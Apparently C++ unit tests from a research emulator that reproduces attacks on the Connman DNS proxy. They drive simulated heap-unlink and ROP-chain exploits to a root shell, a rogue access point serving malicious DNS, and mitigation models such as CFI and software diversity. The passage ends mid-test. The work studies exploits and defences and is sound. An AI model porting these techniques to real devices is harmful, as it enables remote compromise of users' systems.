  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  HttpCamd camd(*sys);
  auto request = HttpCamd::WrapInRequest(util::BytesOf("name=cam1"));
  auto outcome = camd.HandleRequest(request);
  EXPECT_EQ(outcome.kind, Kind::kOk) << outcome.detail;
}

TEST(HttpCamd, HugeBodyCrashes) {
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  HttpCamd camd(*sys);
  util::Bytes body(4000, 0x41);
  auto outcome = camd.HandleRequest(HttpCamd::WrapInRequest(body));
  EXPECT_EQ(outcome.kind, Kind::kCrash);
}

TEST(HttpCamd, BodyBytesAreVerbatimNoInterleaving) {
  // The HTTP vector has no label-length interleaving: the ret slot receives
  // exactly the body word (checked by planting a recognisable crash value).
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 1).value();
  HttpCamd camd(*sys);
  util::Bytes body(camd.ret_offset() + 4, 0x00);
  body[camd.ret_offset() + 0] = 0x44;
  body[camd.ret_offset() + 1] = 0x33;
  body[camd.ret_offset() + 2] = 0x22;
  body[camd.ret_offset() + 3] = 0x11;
  auto outcome = camd.HandleRequest(HttpCamd::WrapInRequest(body));
  EXPECT_EQ(outcome.kind, Kind::kCrash);
  EXPECT_EQ(outcome.stop.pc, 0x11223344u);
}

// ------------------------------------------------------ bug-class zoo ----

TEST(Zoo, ResolvdPointerLoopDosOnBothArches) {
  // Control-flow-free: the crash IS the payoff, under every protection.
  for (const Arch arch : {Arch::kVX86, Arch::kVARM}) {
    for (const ProtectionConfig& prot :
         {ProtectionConfig::None(), ProtectionConfig::WxAslr()}) {
      auto result = AttackResolvd(arch, prot);
      ASSERT_TRUE(result.ok()) << result.status().ToString();
      EXPECT_FALSE(result.value().shell) << result.value().ToString();
      EXPECT_EQ(result.value().kind, Kind::kCrash)
          << result.value().ToString();
      EXPECT_EQ(result.value().technique,
                exploit::Technique::kPointerLoopDos);
    }
  }
}

TEST(Zoo, CamstoredUnlinkShellsWithoutHeapDefenses) {
  for (const Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto result = AttackCamstored(arch, ProtectionConfig::None());
    ASSERT_TRUE(result.ok()) << result.status().ToString();
    EXPECT_TRUE(result.value().shell) << result.value().ToString();
    EXPECT_EQ(result.value().technique,
              exploit::Technique::kHeapUnlinkWrite);
  }
}

TEST(Zoo, CamstoredDegradesToDosUnderWx) {
  // W^X denies the heap-resident shellcode: the unlink write still lands,
  // but the pivot fetches from non-executable memory.
  auto result = AttackCamstored(Arch::kVX86, ProtectionConfig::WxAslr());
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_FALSE(result.value().shell) << result.value().ToString();
  EXPECT_EQ(result.value().kind, Kind::kCrash);
  EXPECT_EQ(DiagnoseZooFailure(exploit::Technique::kHeapUnlinkWrite,
                               ProtectionConfig::WxAslr(), Kind::kCrash),
            exploit::FailureCause::kNxHeap);
}

TEST(Zoo, CamstoredBlockedByHeapIntegrity) {
  ProtectionConfig prot = ProtectionConfig::None();
  prot.heap_integrity = true;
  auto result = AttackCamstored(Arch::kVX86, prot);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_FALSE(result.value().shell) << result.value().ToString();
  EXPECT_EQ(result.value().kind, Kind::kAbort) << result.value().ToString();
  EXPECT_EQ(DiagnoseZooFailure(exploit::Technique::kHeapUnlinkWrite, prot,
                               Kind::kAbort),
            exploit::FailureCause::kHeapIntegrityTrap);
}

TEST(Adapt, ResultRenderingMentionsServiceAndTechnique) {
  auto result = AttackMinimasq(Arch::kVARM, ProtectionConfig::WxAslr());
  ASSERT_TRUE(result.ok());
  const std::string text = result.value().ToString();
  EXPECT_NE(text.find("minimasq"), std::string::npos);
  EXPECT_NE(text.find("rop-memcpy-chain"), std::string::npos);
  EXPECT_NE(text.find("root-shell"), std::string::npos);
}

TEST(Adapt, MinimasqTakesFullBinShChain) {
  // minimasq has no parse_rr clobber, so the full "/bin/sh" chain that
  // dies on Connman-ARM (§III-C2) works here — evidence the 3-call limit
  // was a property of the target, not of the method.
  auto sys = loader::Boot(Arch::kVARM, ProtectionConfig::WxAslr(), 3).value();
  Minimasq service(*sys);
  auto profile = service.ProfileFor();
  ASSERT_TRUE(profile.ok());
  exploit::ArmRopOptions options;
  options.copy_str = "/bin/sh";
  auto image = exploit::BuildArmRopChain(profile.value(), options);
  ASSERT_TRUE(image.ok()) << image.status().ToString();
  auto labels = dns::CutIntoLabels(image.value());
  ASSERT_TRUE(labels.ok());

  dns::Message query = dns::Message::Query(0x31, "victim.example");
  ASSERT_TRUE(service.ForwardQuery(dns::Encode(query).value()).ok());
  auto evil = dns::MaliciousAResponse(query, labels.value());
  auto outcome = service.HandleReply(dns::Encode(evil).value());
  EXPECT_EQ(outcome.kind, Kind::kShell) << outcome.detail;
}

}  // namespace
}  // namespace connlab::adapt
