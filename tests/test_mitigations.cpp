// §IV mitigation-model tests: CFI shadow stack and compile-time software
// diversity, plus their interaction with the paper's strongest exploit.
#include <gtest/gtest.h>

#include "src/attack/scenario.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/isa/assembler.hpp"
#include "src/isa/varm.hpp"
#include "src/isa/vx86.hpp"
#include "src/gadget/finder.hpp"
#include "src/loader/boot.hpp"

namespace connlab {
namespace {

using connman::DnsProxy;
using connman::ProxyOutcome;
using connman::Version;
using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;
using Kind = ProxyOutcome::Kind;

// ------------------------------------------------------------ CFI model ----

TEST(Cfi, ShadowStackAllowsMatchedReturns) {
  mem::AddressSpace space;
  ASSERT_TRUE(space.Map(".text", 0x1000, 0x1000, mem::kPermRX).ok());
  ASSERT_TRUE(space.Map("stack", 0x8000, 0x1000, mem::kPermRW).ok());
  isa::Assembler a(Arch::kVX86, 0x1000);
  a.CallLabel("fn");
  isa::vx86::EncHlt(a.w());
  a.Label("fn");
  isa::vx86::EncRet(a.w());
  ASSERT_TRUE(space.DebugWrite(0x1000, a.Finish().value()).ok());
  vm::Cpu cpu(Arch::kVX86, space);
  cpu.set_shadow_stack_enabled(true);
  cpu.set_pc(0x1000);
  cpu.set_sp(0x9000);
  auto stop = cpu.Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kHalted) << stop.ToString();
}

TEST(Cfi, ShadowStackAbortsForgedReturn) {
  mem::AddressSpace space;
  ASSERT_TRUE(space.Map(".text", 0x1000, 0x1000, mem::kPermRX).ok());
  ASSERT_TRUE(space.Map("stack", 0x8000, 0x1000, mem::kPermRW).ok());
  util::ByteWriter w;
  isa::vx86::EncRet(w);  // return with nothing legitimately called
  ASSERT_TRUE(space.DebugWrite(0x1000, w.bytes()).ok());
  vm::Cpu cpu(Arch::kVX86, space);
  cpu.set_shadow_stack_enabled(true);
  cpu.set_pc(0x1000);
  cpu.set_sp(0x8ffc);
  ASSERT_TRUE(space.WriteU32(0x8ffc, 0x1000).ok());  // forged target
  auto stop = cpu.Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kCfiViolation);
  ASSERT_FALSE(cpu.events().empty());
  EXPECT_EQ(cpu.events().back().kind, vm::EventKind::kCfiViolation);
}

TEST(Cfi, VarmPopPcChecked) {
  mem::AddressSpace space;
  ASSERT_TRUE(space.Map(".text", 0x1000, 0x1000, mem::kPermRX).ok());
  ASSERT_TRUE(space.Map("stack", 0x8000, 0x1000, mem::kPermRW).ok());
  util::ByteWriter w;
  isa::varm::EncPop(w, isa::varm::Mask({isa::kPC}));
  ASSERT_TRUE(space.DebugWrite(0x1000, w.bytes()).ok());
  vm::Cpu cpu(Arch::kVARM, space);
  cpu.set_shadow_stack_enabled(true);
  cpu.set_pc(0x1000);
  cpu.set_sp(0x8ffc);
  ASSERT_TRUE(space.WriteU32(0x8ffc, 0x1000).ok());
  auto stop = cpu.Run(100);
  EXPECT_EQ(stop.reason, vm::StopReason::kCfiViolation);
}

TEST(Cfi, BenignProxyTrafficUnaffected) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto sys = Boot(arch, ProtectionConfig::WxAslrCfi(), 31).value();
    DnsProxy proxy(*sys, Version::k134);
    dns::Message query = dns::Message::Query(0x10, "ok.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    dns::Message response = dns::Message::ResponseFor(query);
    response.answers.push_back(dns::MakeA("ok.example", "1.2.3.4"));
    auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
    EXPECT_EQ(outcome.kind, Kind::kParsedOk) << outcome.ToString();
  }
}

TEST(Cfi, StopsTheRopChainOnBothArchs) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    attack::ScenarioConfig config;
    config.arch = arch;
    config.prot = ProtectionConfig::WxAslr();  // attacker's lab: no CFI
    auto lab = attack::RunControlledScenario(config);
    ASSERT_TRUE(lab.ok());
    ASSERT_TRUE(lab.value().shell);  // exploit is genuinely live

    // Same exploit against a CFI-hardened target.
    auto sys = Boot(arch, ProtectionConfig::WxAslrCfi(), 4242).value();
    DnsProxy proxy(*sys, Version::k134);
    // Rebuild the payload from the non-CFI profile.
    auto lab_sys = Boot(arch, ProtectionConfig::WxAslr(), 100).value();
    DnsProxy lab_proxy(*lab_sys, Version::k134);
    exploit::ProfileExtractor extractor(*lab_sys, lab_proxy);
    auto profile = extractor.Extract();
    ASSERT_TRUE(profile.ok());
    exploit::ExploitGenerator generator(profile.value());
    dns::Message query = dns::Message::Query(0x7E57, "victim.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    auto response =
        generator.BuildResponse(query, exploit::Technique::kRopMemcpyChain);
    ASSERT_TRUE(response.ok());
    auto outcome =
        proxy.HandleServerResponse(dns::Encode(response.value()).value());
    EXPECT_EQ(outcome.kind, Kind::kCfiViolation) << outcome.ToString();
    EXPECT_NE(outcome.detail.find("CFI"), std::string::npos);
  }
}

// ------------------------------------------------- software diversity ----

TEST(Diversity, DifferentBuildsHaveDifferentLayouts) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    auto build_a = Boot(arch, ProtectionConfig::Diversified(1), 1).value();
    auto build_b = Boot(arch, ProtectionConfig::Diversified(2), 1).value();
    // Individual symbols can collide across shuffles; the overall layout
    // (image bytes) must differ.
    const auto& la = build_a->layout;
    auto ta = build_a->space.DebugRead(la.text_base, la.text_size).value();
    auto tb = build_b->space.DebugRead(la.text_base, la.text_size).value();
    EXPECT_NE(ta, tb) << isa::ArchName(arch);
    // And across several address-bearing symbols, at least one moves.
    int moved = 0;
    for (const char* sym : {"plt.memcpy", "plt.execlp", "fn.decor_0",
                            "fn.decor_10", "fn.decor_30"}) {
      moved += build_a->Sym(sym).value() != build_b->Sym(sym).value() ? 1 : 0;
    }
    EXPECT_GE(moved, 1) << isa::ArchName(arch);
  }
}

TEST(Diversity, SameBuildIdIsReproducible) {
  auto a = Boot(Arch::kVARM, ProtectionConfig::Diversified(7), 1).value();
  auto b = Boot(Arch::kVARM, ProtectionConfig::Diversified(7), 99).value();
  EXPECT_EQ(a->Sym("gadget.pop_regs_pc").value(),
            b->Sym("gadget.pop_regs_pc").value());
  EXPECT_EQ(a->Sym("plt.execlp").value(), b->Sym("plt.execlp").value());
}

TEST(Diversity, GadgetsStillExistInEveryBuild) {
  // Diversity moves gadgets; it does not remove them — an attacker with
  // the *matching* build can still find everything.
  for (std::uint64_t build : {1ull, 2ull, 3ull, 4ull}) {
    auto sys = Boot(Arch::kVARM, ProtectionConfig::Diversified(build), 1).value();
    gadget::Finder finder(*sys);
    EXPECT_TRUE(finder
                    .FindPopRegsPc(isa::varm::Mask({isa::kR0, isa::kR1,
                                                    isa::kR2, isa::kR3}))
                    .ok())
        << build;
    EXPECT_TRUE(finder.FindBlx(isa::kR3).ok()) << build;
  }
}

TEST(Diversity, ExploitPortsWithinABuildButNotAcrossBuilds) {
  for (Arch arch : {Arch::kVX86, Arch::kVARM}) {
    // Attacker profiles build 1...
    loader::ProtectionConfig prot_a = ProtectionConfig::Diversified(1);
    auto lab = Boot(arch, prot_a, 100).value();
    DnsProxy lab_proxy(*lab, Version::k134);
    exploit::ProfileExtractor extractor(*lab, lab_proxy);
    auto profile = extractor.Extract();
    ASSERT_TRUE(profile.ok()) << profile.status().ToString();
    exploit::ExploitGenerator generator(profile.value());

    const auto fire = [&](loader::ProtectionConfig prot) {
      auto target = Boot(arch, prot, 4242).value();
      DnsProxy proxy(*target, Version::k134);
      dns::Message query = dns::Message::Query(0x7E57, "victim.example");
      EXPECT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
      auto response =
          generator.BuildResponse(query, exploit::Technique::kRopMemcpyChain);
      EXPECT_TRUE(response.ok());
      return proxy.HandleServerResponse(dns::Encode(response.value()).value());
    };

    // ...owns every device running build 1...
    EXPECT_EQ(fire(prot_a).kind, Kind::kShell) << isa::ArchName(arch);
    // ...but the same payload fails on build 2 — "a successful attack is
    // not guaranteed to work on multiple systems" (§IV).
    auto cross = fire(ProtectionConfig::Diversified(2));
    EXPECT_NE(cross.kind, Kind::kShell) << isa::ArchName(arch);
  }
}

TEST(Diversity, CanonicalBuildUnchangedWhenOff) {
  // Adding the flags to the config struct must not perturb the canonical
  // image (regression guard for every address-sensitive test above).
  auto plain = Boot(Arch::kVX86, ProtectionConfig::WxAslr(), 1).value();
  EXPECT_EQ(plain->Sym("gadget.pppr").value_or(0) != 0, true);
}

TEST(Mitigations, ProtectionStringMentionsModels) {
  EXPECT_EQ(ProtectionConfig::WxAslrCfi().ToString(), "W^X+ASLR+CFI");
  EXPECT_EQ(ProtectionConfig::Diversified(3).ToString(), "W^X+ASLR+ASD");
}

}  // namespace
}  // namespace connlab
