// Network simulation tests: datagram delivery, DHCP, AP association, DNS
// servers, the victim device, and the Pineapple's rogue-AP mechanics.
#include <gtest/gtest.h>

#include "src/loader/boot.hpp"
#include "src/net/dns_client.hpp"
#include "src/net/fake_dns_server.hpp"
#include "src/net/pineapple.hpp"

namespace connlab::net {
namespace {

using isa::Arch;
using loader::ProtectionConfig;

class Sink : public Endpoint {
 public:
  void OnDatagram(Network&, const Datagram& dgram) override {
    received.push_back(dgram);
  }
  std::vector<Datagram> received;
};

class Echo : public Endpoint {
 public:
  void OnDatagram(Network& net, const Datagram& dgram) override {
    Datagram reply = dgram;
    std::swap(reply.src_ip, reply.dst_ip);
    std::swap(reply.src_port, reply.dst_port);
    (void)net.Send(std::move(reply));
  }
};

TEST(Network, DeliversToAttachedEndpoint) {
  Network net;
  Sink sink;
  net.Attach("10.0.0.2", &sink);
  ASSERT_TRUE(net.Send({"10.0.0.1", 1000, "10.0.0.2", 53, {1, 2, 3}}).ok());
  EXPECT_EQ(net.DeliverAll(), 1);
  ASSERT_EQ(sink.received.size(), 1u);
  EXPECT_EQ(sink.received[0].payload, (util::Bytes{1, 2, 3}));
  EXPECT_EQ(net.delivered(), 1u);
}

TEST(Network, DropsUnroutable) {
  Network net;
  ASSERT_TRUE(net.Send({"a", 1, "nowhere", 2, {}}).ok());
  net.DeliverAll();
  EXPECT_EQ(net.dropped(), 1u);
}

TEST(Network, RejectsEmptyDestination) {
  Network net;
  EXPECT_FALSE(net.Send({"a", 1, "", 2, {}}).ok());
}

TEST(Network, ChainedResponsesDeliverInOneDrain) {
  Network net;
  Sink sink;
  Echo echo;
  net.Attach("client", &sink);
  net.Attach("server", &echo);
  ASSERT_TRUE(net.Send({"client", 9, "server", 7, {0xAB}}).ok());
  EXPECT_EQ(net.DeliverAll(), 2);  // request + echoed reply
  ASSERT_EQ(sink.received.size(), 1u);
}

TEST(Network, LogCapturesAllTrafficWhenEnabled) {
  Network net;
  Sink sink;
  net.EnableCapture();
  net.Attach("x", &sink);
  (void)net.Send({"a", 1, "x", 2, {1}});
  (void)net.Send({"a", 1, "y", 2, {2}});
  net.DeliverAll();
  EXPECT_EQ(net.log().size(), 2u);
  EXPECT_NE(net.log()[0].Summary().find("a:1 -> x:2"), std::string::npos);
}

TEST(Network, CaptureIsOffByDefault) {
  Network net;
  Sink sink;
  net.Attach("x", &sink);
  (void)net.Send({"a", 1, "x", 2, {1}});
  net.DeliverAll();
  EXPECT_FALSE(net.capturing());
  EXPECT_TRUE(net.log().empty());
  EXPECT_EQ(net.delivered(), 1u);  // delivery itself is unaffected
}

TEST(Network, CaptureRingBufferDropsOldest) {
  Network net;
  Sink sink;
  net.EnableCapture(/*max_datagrams=*/2);
  net.Attach("x", &sink);
  for (std::uint8_t i = 1; i <= 4; ++i) {
    (void)net.Send({"a", i, "x", 2, {i}});
  }
  net.DeliverAll();
  ASSERT_EQ(net.log().size(), 2u);
  EXPECT_EQ(net.log()[0].payload, (util::Bytes{3}));
  EXPECT_EQ(net.log()[1].payload, (util::Bytes{4}));
}

TEST(Network, VirtualTimeDeliversInDeadlineOrder) {
  Network net;
  Sink sink;
  net.Attach("x", &sink);
  ASSERT_TRUE(net.SendAt({"a", 1, "x", 2, {30}}, 300).ok());
  ASSERT_TRUE(net.SendAt({"a", 1, "x", 2, {10}}, 100).ok());
  ASSERT_TRUE(net.SendAt({"a", 1, "x", 2, {20}}, 200).ok());
  EXPECT_EQ(net.DeliverAll(), 3);
  ASSERT_EQ(sink.received.size(), 3u);
  EXPECT_EQ(sink.received[0].payload, (util::Bytes{10}));
  EXPECT_EQ(sink.received[1].payload, (util::Bytes{20}));
  EXPECT_EQ(sink.received[2].payload, (util::Bytes{30}));
  EXPECT_EQ(net.now(), 300u);  // clock advanced to the last deadline
}

TEST(Network, EqualDeadlinesDeliverInSendOrder) {
  Network net;
  Sink sink;
  net.Attach("x", &sink);
  for (std::uint8_t i = 0; i < 5; ++i) {
    ASSERT_TRUE(net.SendAt({"a", 1, "x", 2, {i}}, 50).ok());
  }
  net.DeliverAll();
  ASSERT_EQ(sink.received.size(), 5u);
  for (std::uint8_t i = 0; i < 5; ++i) {
    EXPECT_EQ(sink.received[i].payload, (util::Bytes{i}));
  }
}

TEST(Network, DeliverUntilLeavesFutureTrafficPending) {
  Network net;
  Sink sink;
  net.Attach("x", &sink);
  (void)net.SendAt({"a", 1, "x", 2, {1}}, 100);
  (void)net.SendAt({"a", 1, "x", 2, {2}}, 900);
  EXPECT_EQ(net.DeliverUntil(500), 1);
  EXPECT_EQ(net.now(), 500u);
  EXPECT_EQ(net.pending(), 1u);
  EXPECT_EQ(net.DeliverUntil(900), 1);
  EXPECT_EQ(net.pending(), 0u);
}

TEST(Network, LatencySchedulesSendsIntoTheFuture) {
  Network net;
  Sink sink;
  net.Attach("x", &sink);
  net.set_latency(250);
  (void)net.Send({"a", 1, "x", 2, {1}});
  EXPECT_EQ(net.DeliverUntil(249), 0);  // still in flight
  EXPECT_EQ(net.DeliverUntil(250), 1);
  ASSERT_EQ(sink.received.size(), 1u);
}

TEST(Dhcp, LeasesAreStableAndOptionsRefresh) {
  DhcpServer dhcp("192.168.7", "192.168.7.1", "192.168.7.53");
  auto lease1 = dhcp.Offer("device-a");
  ASSERT_TRUE(lease1.ok());
  EXPECT_EQ(lease1.value().ip, "192.168.7.100");
  EXPECT_EQ(lease1.value().dns_server, "192.168.7.53");
  auto lease2 = dhcp.Offer("device-b");
  ASSERT_TRUE(lease2.ok());
  EXPECT_EQ(lease2.value().ip, "192.168.7.101");
  // Renewal keeps the ip, refreshes options.
  dhcp.set_dns_server("6.6.6.6");
  auto renewed = dhcp.Offer("device-a");
  ASSERT_TRUE(renewed.ok());
  EXPECT_EQ(renewed.value().ip, "192.168.7.100");
  EXPECT_EQ(renewed.value().dns_server, "6.6.6.6");
}

TEST(Dhcp, PoolExhaustion) {
  DhcpServer dhcp("10.1.1", "10.1.1.1", "10.1.1.53", /*pool_size=*/2);
  EXPECT_TRUE(dhcp.Offer("a").ok());
  EXPECT_TRUE(dhcp.Offer("b").ok());
  EXPECT_FALSE(dhcp.Offer("c").ok());
  EXPECT_TRUE(dhcp.Offer("a").ok());  // renewal still fine
}

TEST(Dhcp, ReleaseRenumbersTheReturningClient) {
  DhcpServer dhcp("10.2.2", "10.2.2.1", "10.2.2.53", /*pool_size=*/4);
  const std::string first_ip = dhcp.Offer("roamer").value().ip;
  dhcp.Release("roamer");
  // Another client arrives before the roamer returns and takes the freed
  // address; the returning client gets the next one — renumbered.
  EXPECT_EQ(dhcp.Offer("newcomer").value().ip, first_ip);
  EXPECT_NE(dhcp.Offer("roamer").value().ip, first_ip);
}

TEST(Dhcp, ReleaseRefillsAnExhaustedPool) {
  DhcpServer dhcp("10.3.3", "10.3.3.1", "10.3.3.53", /*pool_size=*/1);
  ASSERT_TRUE(dhcp.Offer("a").ok());
  EXPECT_FALSE(dhcp.Offer("b").ok());
  EXPECT_EQ(dhcp.exhaustions(), 1u);
  dhcp.Release("a");
  EXPECT_TRUE(dhcp.Offer("b").ok());
  EXPECT_EQ(dhcp.active_leases(), 1u);
}

TEST(Dhcp, ExpireLeasesLapsesOnlyDueLeases) {
  DhcpServer dhcp("10.4.4", "10.4.4.1", "10.4.4.53", /*pool_size=*/8);
  dhcp.set_lease_ttl(100);
  ASSERT_EQ(dhcp.Offer("early", /*now=*/0).value().expires_at, 100u);
  ASSERT_EQ(dhcp.Offer("late", /*now=*/50).value().expires_at, 150u);
  EXPECT_EQ(dhcp.ExpireLeases(99), 0u);
  EXPECT_EQ(dhcp.ExpireLeases(100), 1u);  // only "early" lapses
  EXPECT_EQ(dhcp.active_leases(), 1u);
  // Renewal pushes the surviving lease's deadline out.
  EXPECT_EQ(dhcp.Offer("late", /*now=*/140).value().expires_at, 240u);
  EXPECT_EQ(dhcp.ExpireLeases(150), 0u);
}

TEST(Dhcp, LeaseExpiryMidExchangeDropsTheInFlightResponse) {
  // A victim sends a query upstream, but its lease lapses (and the device
  // detaches) while the response is still in the air: the response must be
  // dropped, not delivered to a stale binding.
  Network net;
  net.set_latency(10);
  Echo server;
  Sink victim;
  net.Attach("server", &server);
  net.Attach("10.5.5.100", &victim);
  DhcpServer dhcp("10.5.5", "10.5.5.1", "server", /*pool_size=*/4);
  dhcp.set_lease_ttl(15);
  ASSERT_EQ(dhcp.Offer("victim", /*now=*/0).value().ip, "10.5.5.100");

  (void)net.Send({"10.5.5.100", 4000, "server", kDnsPort, {0xAA}});
  net.DeliverUntil(10);  // query reaches the server; reply scheduled at t=20
  ASSERT_EQ(net.pending(), 1u);

  EXPECT_EQ(dhcp.ExpireLeases(15), 1u);  // lease lapses mid-exchange
  net.Detach("10.5.5.100");
  net.DeliverUntil(30);
  EXPECT_TRUE(victim.received.empty());
  EXPECT_EQ(net.dropped(), 1u);
}

TEST(Radio, StrongestSignalWinsAssociation) {
  Radio radio;
  AccessPoint weak("Net", -70, DhcpServer("10.0.0", "10.0.0.1", "10.0.0.53"));
  AccessPoint strong("Net", -30, DhcpServer("10.9.0", "10.9.0.1", "10.9.0.53"));
  AccessPoint other("Other", -10, DhcpServer("10.8.0", "10.8.0.1", "10.8.0.53"));
  radio.AddAp(&weak);
  radio.AddAp(&strong);
  radio.AddAp(&other);
  auto best = radio.StrongestFor("Net");
  ASSERT_TRUE(best.ok());
  EXPECT_EQ(best.value(), &strong);
  EXPECT_FALSE(radio.StrongestFor("Missing").ok());
  radio.RemoveAp(&strong);
  EXPECT_EQ(radio.StrongestFor("Net").value(), &weak);
}

TEST(LegitDns, AnswersFromZoneAndNxdomains) {
  Network net;
  Sink sink;
  LegitDnsServer dns("1.1.1.1");
  dns.AddRecord("known.example", "9.9.9.9");
  net.Attach("1.1.1.1", &dns);
  net.Attach("client", &sink);

  auto q1 = dns::Encode(dns::Message::Query(7, "known.example")).value();
  (void)net.Send({"client", 5353, "1.1.1.1", kDnsPort, q1});
  auto q2 = dns::Encode(dns::Message::Query(8, "unknown.example")).value();
  (void)net.Send({"client", 5353, "1.1.1.1", kDnsPort, q2});
  net.DeliverAll();

  ASSERT_EQ(sink.received.size(), 2u);
  auto r1 = dns::Decode(sink.received[0].payload).value();
  EXPECT_EQ(r1.answers.size(), 1u);
  auto r2 = dns::Decode(sink.received[1].payload).value();
  EXPECT_EQ(r2.header.rcode, dns::Rcode::kNXDomain);
  EXPECT_EQ(dns.queries_served(), 2u);
}

TEST(FakeDns, EchoesQueryIdentityIntoMaliciousResponse) {
  Network net;
  Sink sink;
  FakeDnsServer fake("6.6.6.6", FakeDnsServer::Mode::kDos);
  net.Attach("6.6.6.6", &fake);
  net.Attach("victim", &sink);
  auto q = dns::Encode(dns::Message::Query(0xBEEF, "anything.example")).value();
  (void)net.Send({"victim", 4000, "6.6.6.6", kDnsPort, q});
  net.DeliverAll();
  ASSERT_EQ(sink.received.size(), 1u);
  const util::Bytes& wire = sink.received[0].payload;
  // Header: echoed id, QR set; question echo follows.
  EXPECT_EQ(wire[0], 0xBE);
  EXPECT_EQ(wire[1], 0xEF);
  EXPECT_NE(wire[2] & 0x80, 0);
  EXPECT_GT(wire.size(), 4096u);  // oversized name
  EXPECT_EQ(fake.queries_seen(), 1u);
  EXPECT_EQ(fake.payloads_sent(), 1u);
}

TEST(FakeDns, IgnoresNonQueries) {
  Network net;
  FakeDnsServer fake("6.6.6.6", FakeDnsServer::Mode::kDos);
  net.Attach("6.6.6.6", &fake);
  auto resp =
      dns::Encode(dns::Message::ResponseFor(dns::Message::Query(1, "x.y")))
          .value();
  (void)net.Send({"victim", 4000, "6.6.6.6", kDnsPort, resp});
  net.DeliverAll();
  EXPECT_EQ(fake.queries_seen(), 0u);
}

TEST(Victim, JoinsLooksUpAndCaches) {
  Network net;
  Radio radio;
  LegitDnsServer dns("192.168.1.53");
  dns.AddRecord("cloud.example", "5.5.5.5");
  net.Attach(dns.ip(), &dns);
  AccessPoint ap("HomeWiFi", -55,
                 DhcpServer("192.168.1", "192.168.1.1", dns.ip()));
  radio.AddAp(&ap);

  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::WxAslr(), 2).value();
  VictimDevice victim(*sys, connman::Version::k134, "HomeWiFi");
  ASSERT_TRUE(victim.JoinWifi(radio, net).ok());
  EXPECT_EQ(victim.lease().dns_server, "192.168.1.53");

  ASSERT_TRUE(victim.Lookup(net, "cloud.example").ok());
  net.DeliverAll();
  ASSERT_EQ(victim.outcomes().size(), 1u);
  EXPECT_EQ(victim.outcomes()[0].kind, connman::ProxyOutcome::Kind::kParsedOk);
  EXPECT_FALSE(victim.compromised());
  EXPECT_FALSE(victim.crashed());
  EXPECT_EQ(victim.proxy()
                .cache()
                .Lookup("cloud.example", victim.proxy().now() + 1)
                .size(),
            1u);
}

TEST(Victim, LookupRequiresNetwork) {
  Network net;
  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 2).value();
  VictimDevice victim(*sys, connman::Version::k134, "HomeWiFi");
  EXPECT_FALSE(victim.Lookup(net, "x.example").ok());
}

TEST(Pineapple, OutbroadcastsAndServesMaliciousDns) {
  Network net;
  Radio radio;
  LegitDnsServer dns("192.168.1.53");
  dns.AddRecord("cloud.example", "5.5.5.5");
  net.Attach(dns.ip(), &dns);
  AccessPoint home("HomeWiFi", -60,
                   DhcpServer("192.168.1", "192.168.1.1", dns.ip()));
  radio.AddAp(&home);

  auto sys = loader::Boot(Arch::kVX86, ProtectionConfig::None(), 2).value();
  VictimDevice victim(*sys, connman::Version::k134, "HomeWiFi");
  ASSERT_TRUE(victim.JoinWifi(radio, net).ok());
  EXPECT_EQ(victim.lease().dns_server, dns.ip());

  Pineapple pineapple("HomeWiFi", -30);
  pineapple.set_dns_mode(FakeDnsServer::Mode::kDos);
  pineapple.PowerOn(radio, net);

  // Roam: the rogue AP wins, DHCP reassigns DNS to the attacker.
  ASSERT_TRUE(victim.JoinWifi(radio, net).ok());
  EXPECT_EQ(victim.lease().dns_server, pineapple.ip());

  ASSERT_TRUE(victim.Lookup(net, "cloud.example").ok());
  net.DeliverAll();
  EXPECT_EQ(pineapple.dns().queries_seen(), 1u);
  EXPECT_TRUE(victim.crashed());  // the DoS payload landed

  // Power off: the legitimate AP is the strongest again.
  pineapple.PowerOff(radio, net);
  auto best = radio.StrongestFor("HomeWiFi");
  ASSERT_TRUE(best.ok());
  EXPECT_EQ(best.value(), &home);
}

}  // namespace
}  // namespace connlab::net

#include "src/net/resolver.hpp"

namespace connlab::net {
namespace {

TEST(ForwardingResolver, AnswersLocalZoneAndNxdomain) {
  Network net;
  Sink sink;
  ForwardingResolver resolver("1.1.1.1");
  resolver.AddRecord("local.example", "10.0.0.5");
  net.Attach(resolver.ip(), &resolver);
  net.Attach("client", &sink);
  (void)net.Send({"client", 5000, "1.1.1.1", kDnsPort,
                  dns::Encode(dns::Message::Query(1, "local.example")).value()});
  (void)net.Send({"client", 5000, "1.1.1.1", kDnsPort,
                  dns::Encode(dns::Message::Query(2, "missing.example")).value()});
  net.DeliverAll();
  ASSERT_EQ(sink.received.size(), 2u);
  EXPECT_EQ(dns::Decode(sink.received[0].payload).value().answers.size(), 1u);
  EXPECT_EQ(dns::Decode(sink.received[1].payload).value().header.rcode,
            dns::Rcode::kNXDomain);
  EXPECT_EQ(resolver.forwarded(), 0u);
}

TEST(ForwardingResolver, ForwardsDelegatedAndRelaysVerbatim) {
  Network net;
  Sink client;
  ForwardingResolver resolver("1.1.1.1");
  FakeDnsServer evil_ns("6.6.6.6", FakeDnsServer::Mode::kDos);
  resolver.AddDelegation("evil.example", evil_ns.ip());
  net.Attach(resolver.ip(), &resolver);
  net.Attach(evil_ns.ip(), &evil_ns);
  net.Attach("victim", &client);

  auto q = dns::Encode(dns::Message::Query(0x1234, "cdn.evil.example")).value();
  (void)net.Send({"victim", 5000, "1.1.1.1", kDnsPort, q});
